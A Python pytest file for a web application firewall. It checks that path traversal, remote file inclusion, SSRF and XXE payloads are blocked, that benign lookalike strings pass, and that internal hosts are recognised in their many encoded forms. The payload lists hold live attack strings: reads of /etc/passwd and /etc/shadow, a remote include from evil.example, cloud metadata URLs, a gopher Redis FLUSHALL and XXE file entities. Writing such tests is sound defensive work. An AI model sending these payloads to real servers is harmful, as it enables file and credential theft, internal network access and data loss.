"""Rule families that reach files and other hosts: path traversal / LFI, RFI, SSRF, XXE.
SSRF is decided by parsing hosts (every IPv4 notation, IPv6, mapped forms), not by regex."""

from __future__ import annotations

import pytest

from bastion.edge.waf import HttpRequest
from bastion.edge.waf.operators import internal_host, ssrf
from tests.edge.waf.rules_helper import BASE, families, verdict, waf

ATTACKS = [
    ("lfi", "../../../../etc/passwd", "query"),
    ("lfi", "..%2f..%2f..%2fetc%2fpasswd", "query"),  # double-encoded once more by quote()
    ("lfi", "..%252f..%252fetc%252fshadow", "json"),
    ("lfi", "..%c0%af..%c0%afetc%c0%afpasswd", "query"),
    ("lfi", "..\\..\\..\\windows\\win.ini", "form"),
    ("lfi", "C:\\windows\\win.ini", "json"),
    ("lfi", "/proc/self/environ", "header"),
    ("lfi", "file:///etc/passwd", "json"),
    ("lfi", "php://filter/convert.base64-encode/resource=index.php", "query"),
    ("rfi", "http://evil.example/shell.txt?", "query"),
    ("rfi", "https://203.0.113.9/x.php??", "form"),
    ("ssrf", "http://127.0.0.1/admin", "query"),
    ("ssrf", "http://2130706433/", "json"),
    ("ssrf", "http://0x7f000001/", "form"),
    ("ssrf", "http://0177.0.0.1/", "query"),
    ("ssrf", "http://[::1]:8080/", "json"),
    ("ssrf", "http://[::ffff:127.0.0.1]/", "query"),
    ("ssrf", "http://localhost:6379/", "query"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/", "json"),
    ("ssrf", "http://0xa9fea9fe/", "query"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/", "form"),
    ("ssrf", "http://100.100.100.200/latest/meta-data/", "json"),
    ("ssrf", "http://[fd00:ec2::254]/latest/", "query"),
    ("ssrf", "gopher://10.0.0.5:6379/_FLUSHALL", "json"),
    ("ssrf", "webhook=http://user@127.1:22/", "json"),
    ("xxe", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "query"),
]


@pytest.mark.parametrize(("family", "payload", "where"), ATTACKS,
                         ids=[f"{f}-{w}-{p[:30]}" for f, p, w in ATTACKS])
def test_attack_is_blocked(family: str, payload: str, where: str) -> None:
    v = verdict(payload, where)
    assert v.blocked and family in families(v), (v.score, v.matches)


def test_raw_encoded_traversal_in_the_path() -> None:
    v = waf().inspect(HttpRequest("GET", "/static/..%c0%af..%c0%afetc/passwd", BASE))
    assert v.blocked and "lfi" in families(v)


@pytest.mark.parametrize("body", [
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://evil/x">]><r>&x;</r>',
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p PUBLIC "-//x" "http://e/x.dtd">%p;]><r/>',
    b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><r>&b;</r>',
])
def test_xxe_in_xml_bodies(body: bytes) -> None:
    v = waf().inspect(HttpRequest("POST", "/soap", [*BASE, ("content-type", "text/xml")],
                                  body))
    assert v.blocked and families(v) == {"xxe"}, v.matches


BENIGN = [
    "docs/readme.md", "../README.md is the parent folder's file", "/home/user/passwd-tips",
    "https://example.com/page?id=1", "https://api.example.com/v1/users",
    "http://10.0.0.5/internal-dashboard is our intranet", "mailto:jane@example.com",
    "version 127.0.0.1 is the loopback address", "ftp is an old protocol",
    "<?xml version=\"1.0\"?><note>hi</note>", "2130706433", "C:/Users/jane/Documents",
]


@pytest.mark.parametrize("where", ["query", "form", "json", "header", "cookie"])
@pytest.mark.parametrize("payload", BENIGN)
def test_benign_passes(payload: str, where: str) -> None:
    v = verdict(payload, where)
    assert not v.blocked, v.matches


def test_plain_xml_passes() -> None:
    body = b'<?xml version="1.0"?><order id="1"><item sku="A&amp;B">Pan</item></order>'
    v = waf().inspect(HttpRequest("POST", "/o", [*BASE, ("content-type", "application/xml")],
                                  body))
    assert not v.blocked and not v.matches


@pytest.mark.parametrize(("host", "internal"), [
    ("127.0.0.1", True), ("127.1", True), ("127.255.255.254", True), ("2130706433", True),
    ("0x7f000001", True), ("0x7f.0.0.1", True), ("0177.0.0.01", True), ("017700000001", True),
    ("[::1]", True), ("::ffff:127.0.0.1", True), ("[::ffff:7f00:1]", True),
    ("[0:0:0:0:0:ffff:169.254.169.254]", True), ("169.254.169.254", True),
    ("2852039166", True), ("0xa9.0xfe.0xa9.0xfe", True), ("[fe80::1%25eth0]", True),
    ("LOCALHOST", True), ("api.localhost", True), ("metadata.google.internal", True),
    ("100.100.100.200", True), ("fd00:ec2::254", True), ("0.0.0.0", True),
    ("127.0.0.1.nip.io", True),
    ("8.8.8.8", False), ("example.com", False), ("10.0.0.1", False), ("0x7g", False),
    ("256.1.1.1", False), ("1.2.3.4.5", False), ("", False), ("[::2]", False),
    ("99999999999999", False),
])
def test_internal_hosts_by_parsing(host: str, internal: bool) -> None:
    assert internal_host(host) is internal


def test_ssrf_finds_urls_inside_text_and_skips_others() -> None:
    assert ssrf("see http://example.com and then http://127.0.0.1:80/x") == "http://127.0.0.1"
    assert ssrf("https://example.com/a//b") is None
    assert ssrf("unknown-scheme://127.0.0.1") is None


def test_oauth_loopback_redirect_uris_are_not_ssrf() -> None:
    """RFC 8252 §7.3: native apps register loopback redirect URIs."""
    body = (b"grant_type=authorization_code&code=abc&redirect_uri=http%3A%2F%2F127.0.0.1"
            b"%3A53682%2F&client_id=cli&code_verifier=dBjftJeZ4CVP-mB92K27uhbUJU1p1r_wW1gFWFOEjXk")
    v = waf().inspect(HttpRequest("POST", "/token", [
        *BASE, ("content-type", "application/x-www-form-urlencoded")], body))
    assert not v.blocked and not v.matches
